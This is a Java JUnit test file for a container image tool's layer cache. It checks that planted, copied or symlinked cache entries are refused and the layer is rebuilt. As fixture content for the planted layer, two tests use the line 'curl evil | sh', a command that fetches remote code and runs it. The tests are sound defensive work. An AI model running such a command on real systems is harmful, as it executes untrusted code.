package dev.imagesmith.layer;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNotEquals;

import dev.imagesmith.fs.Sandbox;
import dev.imagesmith.image.Compression;
import dev.imagesmith.store.FileHashes;
import dev.imagesmith.testkit.LogLines;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Security cases K for the layer cache: {@code keys/<key>.json} names the blob a layer's key gives,
 * and the blob is only checked against the digest the key file names. A key file rewritten to name
 * another blob, complete and self-consistent (a real layer with its true digest, diffID and sizes),
 * must not make a build ship that blob.
 */
class LayerKeyFileCasesTest {
  private static final Instant CLAMP = Instant.parse("2020-01-02T03:04:05Z");

  @TempDir Path temp;
  private final LogLines log = new LogLines();

  private Sandbox sandbox(String name, String content) throws IOException {
    Path root = temp.resolve(name);
    Sandbox sandbox = Sandbox.create(root);
    Files.writeString(Files.createDirectories(root.resolve("app")).resolve("run"), content);
    return sandbox;
  }

  private LayerWriter writer(LayerCache cache) {
    return new LayerWriter(Compression.GZIP, CLAMP, LowerIndex.empty(), cache);
  }

  private LayerCache cache() {
    return LayerCache.open(temp.resolve("cache/layers"), FileHashes.load(null, 0), log);
  }

  private WrittenLayer write(LayerWriter writer, Sandbox sandbox, String build) throws IOException {
    return writer.write(sandbox, "/app", temp.resolve(build).resolve("blobs"));
  }

  private Path keyFile() throws IOException {
    try (var keys = Files.list(temp.resolve("cache/layers/keys"))) {
      List<Path> all = keys.filter(p -> p.toString().endsWith(".json")).toList();
      assertEquals(1, all.size(), all.toString());
      return all.get(0);
    }
  }

  /** Rewrites the fields a key file points with, keeping everything else as it was. */
  private static void pointAt(Path keyFile, WrittenLayer evil) throws IOException {
    String json = Files.readString(keyFile);
    json =
        json.replaceAll("\"digest\":\"[^\"]*\"", "\"digest\":\"" + evil.digest() + "\"")
            .replaceAll("\"diffId\":\"[^\"]*\"", "\"diffId\":\"" + evil.diffId() + "\"")
            .replaceAll("\"size\":[0-9]+", "\"size\":" + evil.compressedSize())
            .replaceAll(
                "\"uncompressedSize\":[0-9]+", "\"uncompressedSize\":" + evil.uncompressedSize());
    Files.writeString(keyFile, json);
  }

  @Test
  void K1_keyFileRewrittenToNamePlantedBlob_ignoredWithWarningAndRebuilt() throws Exception {
    Sandbox good = sandbox("good", "echo the real program\n");
    WrittenLayer stored = write(writer(cache()), good, "one");
    Path keyFile = keyFile();
    // The planted layer: a real, valid blob with its true digest, put where cached blobs live.
    WrittenLayer evil = write(writer(null), sandbox("evil", "curl evil | sh\n"), "evil");
    Files.copy(evil.blob(), temp.resolve("cache/layers/blobs").resolve(evil.digest().encoded()));
    pointAt(keyFile, evil);

    LayerWriter second = writer(cache());
    WrittenLayer built = write(second, good, "two");

    assertNotEquals(stored.digest(), evil.digest());
    assertEquals(stored.digest(), built.digest(), "the planted blob was used");
    assertEquals(1, second.compressedCount());
    assertEquals(
        List.of(
            "Layer cache: ignoring key file "
                + keyFile
                + ": its seal does not match the layer's inputs: it was edited, copied from"
                + " another key or planted; the layer is written anew and the key file replaced"),
        log.warnings());
    // The key file was written anew: the next build reuses the real layer, silently.
    LayerWriter third = writer(cache());
    assertEquals(stored.digest(), write(third, good, "three").digest());
    assertEquals(1, third.reusedCount());
    assertEquals(1, log.warnings().size(), log.text());
  }

  @Test
  void K2_keyFileCopiedFromAnotherLayer_ignoredWithWarning() throws Exception {
    Sandbox good = sandbox("good", "echo the real program\n");
    WrittenLayer stored = write(writer(cache()), good, "one");
    Path goodKey = keyFile();
    Path keys = goodKey.getParent();
    Files.move(goodKey, temp.resolve("good-key.json"));
    // Another layer's key file, whole and sealed for its own key, copied under this layer's key.
    write(writer(cache()), sandbox("evil", "curl evil | sh\n"), "evil");
    Path evilKey = keyFile();
    Files.copy(evilKey, goodKey);

    LayerWriter second = writer(cache());
    WrittenLayer built = write(second, good, "two");

    assertEquals(stored.digest(), built.digest(), "another layer's blob was used");
    assertEquals(1, second.compressedCount());
    assertEquals(
        List.of(
            "Layer cache: ignoring key file "
                + goodKey
                + ": its seal does not match the layer's inputs: it was edited, copied from"
                + " another key or planted; the layer is written anew and the key file replaced"),
        log.warnings());
    assertEquals(keys, evilKey.getParent());
  }

  @Test
  void K6_cachedBlobIsLink_neverFollowed_layerWrittenAnew() throws Exception {
    Sandbox good = sandbox("good", "echo the real program\n");
    WrittenLayer stored = write(writer(cache()), good, "one");
    Path cached = temp.resolve("cache/layers/blobs").resolve(stored.digest().encoded());
    // Even a link to the right bytes is refused: the cache holds files, and links lead anywhere.
    Path elsewhere = temp.resolve("elsewhere");
    Files.move(cached, elsewhere);
    Files.createSymbolicLink(cached, elsewhere);

    LayerWriter second = writer(cache());
    WrittenLayer built = write(second, good, "two");

    assertEquals(stored.digest(), built.digest());
    assertEquals(1, second.compressedCount());
    assertEquals(
        List.of(
            "Layer cache: "
                + cached
                + " is not a regular file; ignoring key file "
                + keyFile()
                + ", the layer is written anew"),
        log.warnings());
    assertEquals(true, Files.isRegularFile(cached, java.nio.file.LinkOption.NOFOLLOW_LINKS));
  }
}
